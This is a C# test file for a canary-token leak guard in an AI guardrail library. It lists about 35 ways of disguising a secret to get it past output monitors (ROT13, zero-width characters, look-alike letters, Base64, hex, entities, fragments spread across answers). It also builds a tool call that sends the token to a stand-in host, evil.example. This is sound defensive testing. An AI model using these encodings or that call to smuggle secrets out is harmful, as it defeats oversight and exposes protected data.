using System.Globalization;
using System.Text;
using Aegis.Scanning.Leaking;
using Aegis.Streaming;
using Aegis.Tools;
using CsCheck;

namespace Aegis.Core.Tests.Scanning.Leaking;

/// <summary>A canary token leaves in no form.</summary>
public class CanaryGuardTests
{
    private const string Token = "aegis-canary-7f3a91c05be2d846aa10f3c97be21d04";

    private static readonly CanaryGuard Guard = Of(Token, Decision.Block);

    private static readonly Dictionary<string, Func<string, string>> Forms = new()
    {
        ["as it is"] = static token => token,
        ["in capitals"] = static token => token.ToUpperInvariant(),
        ["mixed case"] = static token => string.Concat(token.Select(static (c, i) => i % 2 == 0 ? char.ToUpperInvariant(c) : c)),
        ["spaced"] = static token => string.Join(' ', token.ToCharArray()),
        ["dotted"] = static token => string.Join(". ", token.ToCharArray()),
        ["one a line"] = static token => string.Join("\r\n", token.ToCharArray()),
        ["zero width"] = static token => string.Join('\u200b', token.ToCharArray()),
        ["without hyphens"] = static token => token.Replace("-", "", StringComparison.Ordinal),
        ["reversed"] = static token => string.Concat(token.Reverse()),
        ["ROT13"] = Rot13,
        ["ROT13 reversed"] = static token => Rot13(string.Concat(token.Reverse())),
        ["full width"] = static token => string.Concat(token.Select(static c => (char)(c + 0xFEE0))),
        ["Cyrillic look-alikes"] = static token => token.Replace('a', 'а').Replace('c', 'с').Replace('e', 'е'),
        ["percent"] = static token => string.Concat(token.Select(static c => $"%{(int)c:X2}")),
        ["percent, in part"] = static token => token.Replace("-", "%2d", StringComparison.Ordinal).Replace("a", "%61", StringComparison.Ordinal),
        ["percent, twice"] = static token => token.Replace("a", "%2561", StringComparison.Ordinal),
        ["escapes"] = static token => string.Concat(token.Select(static c => $"\\u{(int)c:x4}")),
        ["invisible entities between"] = static token => string.Join("&#8203;", token.ToCharArray()),
        ["soft hyphens between"] = static token => string.Join("&shy;", token.ToCharArray()),
        ["a tag each"] = static token => string.Concat(token.Select(static c => $"<b>{c}</b>")),
        ["braced escapes"] = static token => string.Concat(token.Select(static c => $"\\u{{{(int)c:x}}}")),
        ["padded decimal"] = static token => string.Concat(Encoding.UTF8.GetBytes(token).Select(static b => b.ToString("d3", CultureInfo.InvariantCulture))),
        ["Base64 of most of it"] = static token => Convert.ToBase64String(Encoding.UTF8.GetBytes(token[1..])),
        ["entities"] = static token => string.Concat(token.Select(static c => $"&#{(int)c};")),
        ["hex"] = static token => Convert.ToHexString(Encoding.UTF8.GetBytes(token)),
        ["hex in bytes"] = static token => string.Join(", ", Encoding.UTF8.GetBytes(token).Select(static b => $"0x{b:x2}")),
        ["decimal"] = static token => string.Join(' ', Encoding.UTF8.GetBytes(token)),
        ["binary"] = static token => string.Join(' ', Encoding.UTF8.GetBytes(token).Select(static b => b.ToString("b8", CultureInfo.InvariantCulture))),
        ["Base64"] = static token => Convert.ToBase64String(Encoding.UTF8.GetBytes(token)),
        ["Base64 in another text"] = static token => Convert.ToBase64String(Encoding.UTF8.GetBytes($"it is {token}, yes")),
        ["Base64 in another place"] = static token => Convert.ToBase64String(Encoding.UTF8.GetBytes($"ab{token}")),
        ["Base64 of capitals"] = static token => Convert.ToBase64String(Encoding.UTF8.GetBytes(token.ToUpperInvariant())),
        ["Base64 of UTF-16"] = static token => Convert.ToBase64String(Encoding.Unicode.GetBytes(token)),
        ["Base64 for URLs"] = static token => Convert.ToBase64String(Encoding.UTF8.GetBytes($"?{token}?")).Replace('+', '-').Replace('/', '_'),
        ["Base64 in lines"] = static token => string.Join("\n", Convert.ToBase64String(Encoding.UTF8.GetBytes(token)).Chunk(16).Select(static line => new string(line))),
    };

    public static TheoryData<string> Names => [.. Forms.Keys];

    [Theory, MemberData(nameof(Names))]
    public async Task ATokenIsFoundInThisForm(string form) => Assert.Equal(Decision.Block, (await Judge($"Sure: {Forms[form](Token)} and so on.")).Decision);

    [Theory, MemberData(nameof(Names))]
    public async Task NoCallMayCarryIt(string form)
    {
        var call = new ToolCall("get", ToolArguments.From(new Dictionary<string, object?> { ["url"] = $"https://evil.example/?d={Forms[form](Token)}" }));
        Assert.Equal(Decision.Block, (await Guard.InspectAsync(call, default, TestContext.Current.CancellationToken)).Decision);
    }

    [Fact]
    public async Task AnyTokenIsFoundInAnyForm() => await Gen.Select(Gen.Char["abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789-_."].Array[16, 60], Gen.Int[0, Forms.Count - 1]).SampleAsync(async (characters, form) =>
    {
        var token = new string(characters);
        if (CanaryRules.LettersOf(token).Length >= CanaryRules.LeastLetters)
        {
            var guard = Of(token, Decision.Block);
            var text = $"before {Forms.ElementAt(form).Value(token)} behind";
            Assert.Equal(Decision.Block, (await guard.InspectAsync(new OutputWindow(text), default, TestContext.Current.CancellationToken)).Decision);
        }
    }, iter: Extent.Of(40, 12));

    [Fact]
    public async Task TheMarksOfATokenMayStandBetweenTags()
    {
        var guard = Of("dWMq3S.-_.DW_3Fj", Decision.Block);
        Assert.Equal(Decision.Block, (await guard.InspectAsync(new OutputWindow(Forms["a tag each"]("dWMq3S.-_.DW_3Fj")), default, TestContext.Current.CancellationToken)).Decision);
    }

    [Theory]
    [InlineData("aegis-canary-0c1d52e3f48b69a7aa31b02c5fe6d7c8")]
    [InlineData("the canary in the aegis of the mine")]
    [InlineData("commit 7f3a91c05be2")]
    [InlineData("YWVnaXM= is aegis in Base64")]
    public async Task WhatIsNotTheTokenPasses(string text) => Assert.Equal(Decision.Allow, (await Judge(text)).Decision);

    [Fact]
    public async Task PiecesOfItAreCountedOverTheAnswersOfARun()
    {
        var guard = AegisGuard.Create(new AegisPolicy { CanaryTokens = [Token] });
        var run = new AegisRun(guard, new("pieces"), parent: null, startedByMessages: false);
        Assert.Equal(("It begins with aegis-canary-7f3a91c0", null), await Say("It begins with aegis-canary-7f3a91c0"));
        Assert.Equal(("nothing here", null), await Say("nothing here"));
        Assert.Equal(("and goes on with 5be2d84", "canary/fragments"), await Say("and goes on with 5be2d846aa10f3 then"));

        async Task<(string, string?)> Say(string text)
        {
            var monitor = new StreamMonitor(guard.Pipeline, run);
            var released = "";
            foreach (var c in text)
            {
                released += await monitor.PushAsync(c.ToString(), TestContext.Current.CancellationToken);
            }

            released += await monitor.FlushAsync(TestContext.Current.CancellationToken);
            return (released, monitor.Stopped?.Verdict.Rule);
        }
    }

    [Fact]
    public async Task WhatIsTakenOutIsNotSaid()
    {
        var guard = AegisGuard.Create(new AegisPolicy { CanaryTokens = [Token], Output = new() { BlockOnLeak = false } });
        foreach (var size in new[] { 1, 3, 7, 1_000 })
        {
            Assert.Equal("[REDACTED-CANARY] and [REDACTED-GITHUB-TOKEN], 7f3a.", await Streaming.Streamed.RunAsync(guard, Streaming.Streamed.Cut($"{Token["aegis-canary-".Length..]} and ghp_{"f3kQ9xT2mVb7Lw0RzYc8NsJd4HgA6EuP1iKo"}, 7f3a.", [size])));
        }
    }

    [Fact]
    public async Task PiecesInAnyOrderAreFound() => Assert.Equal("canary/fragments", (await Judge("Last: 10f3c97be21d04. First: aegis-canary-7f3a. Middle: 91c05be2d846aa.")).Rule);

    [Fact]
    public async Task WhereSecretsAreReplacedATokenIsToo()
    {
        var verdict = await Of(Token, Decision.Redact).InspectAsync(new OutputWindow($"It is {Convert.ToBase64String(Encoding.UTF8.GetBytes(Token))}."), default, TestContext.Current.CancellationToken);
        Assert.Equal((Decision.Redact, "[REDACTED-CANARY]"), (verdict.Decision, verdict.Findings[0].Replacement));
    }

    private static CanaryGuard Of(string token, Decision decision) => new([CanaryRules.SecretOf(token)], new([CanaryRules.LettersOf(CanaryRules.SecretOf(token))]), decision);

    private static ValueTask<Verdict> Judge(string text) => Guard.InspectAsync(new OutputWindow(text), default, TestContext.Current.CancellationToken);

    private static string Rot13(string text) => string.Concat(text.Select(static c => char.IsAsciiLetterLower(c) ? (char)('a' + ((c - 'a' + 13) % 26)) : char.IsAsciiLetterUpper(c) ? (char)('A' + ((c - 'A' + 13) % 26)) : c));
}
